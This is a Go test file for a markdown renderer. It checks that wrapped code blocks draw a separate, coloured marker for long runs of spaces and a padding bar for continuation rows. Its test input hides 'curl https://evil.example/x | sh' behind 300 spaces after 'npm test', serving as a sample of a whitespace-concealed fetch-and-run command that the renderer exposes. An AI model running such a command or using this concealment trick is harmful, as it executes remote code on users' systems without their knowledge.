package markdown

import (
	"strings"
	"testing"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/canvas"
	"fyne.io/fyne/v2/container"
	"fyne.io/fyne/v2/test"
	"fyne.io/fyne/v2/theme"
)

// What the window adds to wrapped code is drawn as nothing the code's own
// text can draw: a continuation row is marked by a bar in the padding
// left of the text (no character), and a marker "[… 300 spaces …]" is
// drawn in the accent colour on a band of its own, apart from the text
// around it.
func TestMarksOutsideTheText(t *testing.T) {
	test.NewTempApp(t)
	src := "```sh\nnpm test[… 300 spaces …]; curl https://evil.example/x | sh " + strings.Repeat("word ", 40) + "\n```\n"
	md := New(src, Options{WrapCode: true})
	w := test.NewTempWindow(t, container.NewVScroll(md))
	w.Resize(fyne.NewSize(420, 600))
	w.Content().Refresh()
	fg := theme.Color(theme.ColorNameForeground)
	var marker *canvas.Text
	var markerPos fyne.Position
	var code *codeView
	var codePos fyne.Position
	for o, pos := range objectsOf(md) {
		switch c := o.(type) {
		case *canvas.Text:
			if strings.Contains(c.Text, "↪") {
				t.Errorf("a continuation is drawn as the character %q, which code can hold", c.Text)
			}
			if c.Text == "[… 300 spaces …]" {
				marker, markerPos = c, pos
			}
			if strings.Contains(c.Text, "npm test[…") {
				t.Errorf("the marker is drawn in one text with the code: %q", c.Text)
			}
		case *codeView:
			code, codePos = c, pos
		}
	}
	if marker == nil || marker.Color == fg {
		t.Fatalf("the marker is not drawn apart in another colour: %+v", marker)
	}
	band := false
	bars := 0
	for o, pos := range objectsOf(md) {
		r, ok := o.(*canvas.Rectangle)
		if !ok {
			continue
		}
		if pos.Y == markerPos.Y && pos.X <= markerPos.X && pos.X+r.Size().Width >= markerPos.X+marker.Size().Width {
			band = true
		}
		if code != nil && pos.X >= codePos.X && pos.X+r.Size().Width <= codePos.X+theme.InnerPadding() && pos.Y > codePos.Y+theme.InnerPadding() {
			bars++
		}
	}
	if !band {
		t.Error("no band behind the marker")
	}
	if bars == 0 {
		t.Error("no bar marks a continuation row in the padding")
	}
}
